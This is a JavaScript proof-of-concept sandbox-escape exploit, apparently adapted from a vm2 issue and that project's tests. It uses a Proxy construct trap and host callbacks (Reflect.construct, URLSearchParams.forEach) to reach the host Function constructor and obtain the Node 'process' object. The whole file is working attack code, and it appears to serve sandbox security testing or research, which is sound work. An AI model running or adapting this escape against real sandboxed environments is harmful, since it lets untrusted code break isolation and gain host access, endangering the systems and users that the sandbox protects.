// Source: vm2 issue #179 (https://github.com/patriksimek/vm2/issues/179), test/vm.js "function returned
// from construct attack" and "contextifying a contextified value attack" #2. The original needs host
// functions `call: x => x.a()` and `ctor: X => new X()`; this sandbox has none that construct, so the
// PoC also tries Reflect.construct and the URLSearchParams callback.
// Tried: a Proxy whose construct trap returns a function; called with a host `this`, its
// `Object.getPrototypeOf(this).constructor.constructor` would be the host Function.
const out = {};
let made;
try {
  const P = new Proxy(class A {}, {
    construct() {
      return function () {
        __wr.use(this, 'this of the returned function');
        return Object.getPrototypeOf(this).constructor.constructor('return process')();
      };
    },
  });
  made = Reflect.construct(P, []);
  out.made = typeof made;
} catch (e) { out.construct = String(e.message); }
try {
  new URLSearchParams('a=1').forEach(function () { __wr.use(made.call(this), 'called by a host forEach'); });
} catch (e) { out.call = String(e.message); }
try { __wr.use(made(), 'called directly'); } catch (e) { out.direct = String(e.message); }
return out;
